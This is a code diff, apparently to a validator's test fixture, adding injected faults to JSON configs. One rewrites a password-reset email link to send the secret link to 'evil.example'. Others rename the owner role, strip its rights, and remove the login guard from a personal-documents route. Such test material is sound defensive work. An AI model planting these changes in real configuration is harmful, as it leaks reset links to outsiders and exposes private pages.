@@ -17,6 +17,35 @@ const MARK = '▸'
 type Mistake = readonly [name: string, file: string, from: string, to: string, words: string]
 
 const MISTAKES: readonly Mistake[] = [
+  // What would let others in, or nobody.
+  [
+    'the link of a letter leads elsewhere',
+    'mails/password-restore.json',
+    '{ "$get": "params.link" }',
+    '▸{ "$text": "https://evil.example/?u={params.link}" }',
+    'тайная ссылка уйдёт чужому сайту',
+  ],
+  [
+    'the role of the owner has another name',
+    'desk/roles.json',
+    '"roles": [\n    {\n      "id": "owner"',
+    '▸"roles": [\n    {\n      "id": "boss"',
+    'раздавать роли станет некому',
+  ],
+  [
+    'the owner may give no roles',
+    'desk/roles.json',
+    '"roles": [\n    {\n      "id": "owner",\n      "title": "Владелец",\n      "rights": [',
+    '▸"roles": [\n    {\n      "id": "other",\n      "title": "Другая",\n      "rights": []\n    },\n    {\n      "id": "owner",\n      "title": "Владелец",\n      "rights": []\n    },\n    {\n      "id": "third",\n      "title": "Третья",\n      "rights": [',
+    'ей нельзя «desk.staff»',
+  ],
+  [
+    'a page of who is signed in is open',
+    'routes.json',
+    '{ "path": "/personal/documents", "page": "personal-documents", "guard": "personal" }',
+    '▸{ "path": "/personal/documents", "page": "personal-documents" }',
+    'отвечает только тем, кто вошёл',
+  ],
   // Notation.
   ['a brace is missing', 'content/faq.json', '\n        },\n        {', '▸\n        {', 'Не закрыта фигурная скобка'],
   ['a bracket is missing', 'pages/contacts.json', '\n  ]\n}', '▸\n}', 'Не закрыта квадратная скобка'],
